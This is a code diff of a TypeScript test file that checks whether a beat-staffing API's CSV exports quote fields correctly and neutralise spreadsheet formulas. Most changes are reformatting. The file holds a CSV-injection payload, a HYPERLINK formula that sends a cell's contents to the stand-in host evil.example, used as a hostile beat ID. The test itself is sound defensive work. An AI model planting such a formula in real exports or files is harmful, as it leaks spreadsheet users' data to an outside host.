@@ -8,7 +8,7 @@
  */
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { BOX, createPlan, removeDir, startHarness, uploadBasics, waitForJob, type Harness } from '../testing/harness.js';
+import { BOX, createPlan, type Harness, removeDir, startHarness, uploadBasics, waitForJob } from '../testing/harness.js';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
 const AWKWARD = 'North, "Lake"\nside';
@@ -28,7 +28,18 @@ beforeAll(async () => {
   const data = await uploadBasics(h);
   const { west: w, south: s, east: e, north: n } = BOX;
   const m = (w + e) / 2;
-  const poly = (a: number, b: number) => ({ type: 'Polygon', coordinates: [[[a, s], [b, s], [b, n], [a, n], [a, s]]] });
+  const poly = (a: number, b: number) => ({
+    type: 'Polygon',
+    coordinates: [
+      [
+        [a, s],
+        [b, s],
+        [b, n],
+        [a, n],
+        [a, s],
+      ],
+    ],
+  });
   const beats = {
     type: 'FeatureCollection',
     features: [
@@ -36,12 +47,23 @@ beforeAll(async () => {
       { type: 'Feature', properties: { beat: AWKWARD }, geometry: poly(m, e) },
     ],
   };
-  const up = await h.http.post('/api/v1/datasets/beats?idField=beat').set(h.auth('analyst')).set('Content-Type', 'application/geo+json').send(JSON.stringify(beats));
+  const up = await h.http
+    .post('/api/v1/datasets/beats?idField=beat')
+    .set(h.auth('analyst'))
+    .set('Content-Type', 'application/geo+json')
+    .send(JSON.stringify(beats));
   expect(up.status).toBe(201);
   planId = await createPlan(h, { ...data, existing: up.body.id, method: 'import', resolution: 9, name: 'hostile ids' });
   cellCount = (await h.http.get(`/api/v1/plans/${planId}/cells`).set(h.auth('analyst'))).body.rows.length;
-  const lines = ['officer_id,name,shift,rank,current_beat,skills,available', ...OFFICERS.map((o, k) => `${quoted(o)},${quoted(`Name ${o}`)},${['0-8', '8-16', '16-24'][k % 3]},PO,,,true`)];
-  const roster = await h.http.post('/api/v1/datasets/rosters').set(h.auth('commander')).set('Content-Type', 'text/csv').send(`${lines.join('\n')}\n`);
+  const lines = [
+    'officer_id,name,shift,rank,current_beat,skills,available',
+    ...OFFICERS.map((o, k) => `${quoted(o)},${quoted(`Name ${o}`)},${['0-8', '8-16', '16-24'][k % 3]},PO,,,true`),
+  ];
+  const roster = await h.http
+    .post('/api/v1/datasets/rosters')
+    .set(h.auth('commander'))
+    .set('Content-Type', 'text/csv')
+    .send(`${lines.join('\n')}\n`);
   expect(roster.status, JSON.stringify(roster.body)).toBe(201);
   const job = await h.http.post(`/api/v1/plans/${planId}/staffing`).set(h.auth('commander')).send({ roster: roster.body.id });
   const done = await waitForJob(h, job.body.id, 60_000);
@@ -67,7 +89,8 @@ describe('CSV answers: RFC 4180 quoting and formula neutralising', () => {
         expect(ids).toEqual(new Set([`'${FORMULA}`, AWKWARD]));
         expect(rows.filter((x) => x.beat === AWKWARD).length).toBeGreaterThan(10);
         // no field a spreadsheet would evaluate: every field starting with = + - @ TAB CR is a plain number
-        for (const x of rows) for (const v of Object.values(x)) if (/^[=+\-@\t\r]/.test(v)) expect(Number.isFinite(Number(v)), v).toBe(true);
+        for (const x of rows)
+          for (const v of Object.values(x)) if (/^[=+\-@\t\r]/.test(v)) expect(Number.isFinite(Number(v)), v).toBe(true);
         // the raw text holds the formula only after the neutralising quote
         expect(r.text).not.toMatch(/(^|,)=HYPERLINK/m);
       });
@@ -87,7 +110,17 @@ describe('the assignments CSV (staffing/{id}?format=csv): hostile beat and offic
     const rows = parse(r.text, { columns: true }) as Array<Record<string, string>>;
     type Shift = { shift: string; required: number; allocated: number; officers: string[] };
     const beats = json.body.beats as Array<{ id: string; shifts: Shift[] }>;
-    const expected = beats.flatMap((b) => b.shifts.flatMap((s) => (s.officers.length ? s.officers : ['']).map((o) => [neutralised(b.id), s.shift, neutralised(o), String(s.required), String(s.allocated)])));
+    const expected = beats.flatMap((b) =>
+      b.shifts.flatMap((s) =>
+        (s.officers.length ? s.officers : ['']).map((o) => [
+          neutralised(b.id),
+          s.shift,
+          neutralised(o),
+          String(s.required),
+          String(s.allocated),
+        ]),
+      ),
+    );
     expect(rows.map((x) => [x.beat, x.shift, x.officer, x.required, x.allocated])).toEqual(expected);
     expect(new Set(rows.map((x) => x.beat))).toEqual(new Set([`'${FORMULA}`, AWKWARD]));
     // every officer of the roster is assigned (6 officers, 2 beats × 3 shifts) and comes back as text
